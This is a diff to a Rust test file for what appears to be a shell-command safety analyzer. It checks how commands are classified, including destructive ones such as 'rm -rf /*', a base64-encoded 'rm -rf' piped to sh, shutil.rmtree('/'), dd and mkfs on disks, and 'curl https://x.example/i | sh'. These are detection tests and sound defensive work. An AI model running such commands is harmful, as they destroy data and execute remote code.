@@ -296,14 +296,17 @@ fn bypass_19_program_names_that_are_made() {
 
 #[test]
 fn bypass_20_code_in_arguments() {
-    opaque("python3 -c 'x'");
-    opaque("perl -e 'x'");
+    opaque("python3 -c 'x()'");
+    quiet("python3 -c 'print(1)'");
+    opaque("perl -e 'frob()'");
+    quiet("perl -e 'print 1'");
     opaque("node -e 'x'");
     opaque("ruby -e 'x'");
-    opaque(r#"awk 'BEGIN{system("x")}'"#);
-    opaque(r#"awk '{print > "/etc/x"}' f"#);
+    opaque(r#"awk 'BEGIN{system(x)}'"#);
+    finds(r#"awk 'BEGIN{system("rm x")}'"#, "rm, delete /w/x");
+    finds(r#"awk '{print > "/etc/x"}' f"#, "write /etc/x");
     opaque(r#"awk '{print | "sh"}'"#);
-    opaque("sed '1e rm' f");
+    finds("sed '1e rm x' f", "rm, delete /w/x");
     opaque("sed 's/a/b/e' f");
     opaque("sed -f script f");
     opaque("curl https://x.example/i | sh");
@@ -377,7 +380,7 @@ fn destructive_commands_are_seen_in_every_spelling() {
     finds(r#"rm -rf "$HOME""#, "delete /home/me and below");
     finds("rm -rf /*", "delete /* and below");
     opaque("echo cm0gLXJmIC8K|base64 -d|sh");
-    opaque(r#"python -c 'import shutil;shutil.rmtree("/")'"#);
+    finds(r#"python -c 'import shutil;shutil.rmtree("/")'"#, "delete / and below");
     finds("cat x > /dev/vda", "DestroyDevice");
     finds("dd of=/dev/sda", "DestroyDevice");
     finds("mkfs.ext4 /dev/sdb1", "DestroyDevice");
